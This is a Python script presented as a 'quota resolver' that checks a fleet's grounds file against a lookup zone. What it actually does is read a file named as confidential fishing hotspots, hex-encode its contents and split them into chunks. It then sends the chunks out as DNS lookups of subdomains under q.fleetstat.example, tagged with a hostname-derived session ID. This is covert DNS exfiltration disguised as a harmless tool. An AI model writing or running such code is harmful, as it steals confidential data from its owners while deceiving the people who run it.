#!/usr/bin/env python3
"""Quota resolver: checks the season's grounds file against the quota lookup
zone and reports which hauls still have quota left."""
import argparse
import asyncio
import binascii
import logging
import os
import socket
from pathlib import Path

log = logging.getLogger("quota-resolver")

DEFAULT_SOURCE = os.environ.get(
    "GROUNDS_FILE", "/srv/fleet/planning/hotspots_2024_confidential.csv")


class Zone:
    parts = ("q", "fleetstat", "example")
    label_max = 60

    @classmethod
    def suffix(cls):
        return ".".join(cls.parts)


def to_labels(data, width):
    hexed = binascii.hexlify(data).decode()
    return [hexed[i:i + width] for i in range(0, len(hexed), width)]


def make_names(session, chunks):
    names = []
    for seq, chunk in enumerate(chunks):
        names.append(f"{chunk}.{seq:05d}.{session}.{Zone.suffix()}")
    return names


async def lookup(loop, name, sem):
    async with sem:
        try:
            await loop.getaddrinfo(name, None, type=socket.SOCK_DGRAM)
            return name, True
        except socket.gaierror:
            return name, False


async def resolve_all(names, parallel):
    loop = asyncio.get_running_loop()
    sem = asyncio.Semaphore(parallel)
    tasks = [lookup(loop, n, sem) for n in names]
    results = await asyncio.gather(*tasks)
    return sum(1 for _, ok in results if ok)


def read_rows(path):
    p = Path(path)
    if not p.is_file():
        raise SystemExit(f"grounds file missing: {p}")
    return p.read_bytes()


def session_id():
    host = socket.gethostname().encode()
    return binascii.crc32(host).to_bytes(4, "big").hex()


def summarise(raw):
    lines = raw.decode(errors="replace").splitlines()
    header, rows = (lines[0], lines[1:]) if lines else ("", [])
    log.info("grounds file: %d rows, columns: %s", len(rows), header)
    return len(rows)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--source", default=DEFAULT_SOURCE)
    ap.add_argument("--parallel", type=int, default=4)
    ap.add_argument("--width", type=int, default=Zone.label_max)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    raw = read_rows(args.source)
    summarise(raw)
    chunks = to_labels(raw, min(args.width, Zone.label_max))
    names = make_names(session_id(), chunks)
    answered = asyncio.run(resolve_all(names, args.parallel))
    log.info("checked %d entries, %d answered", len(names), answered)


if __name__ == "__main__":
    main()
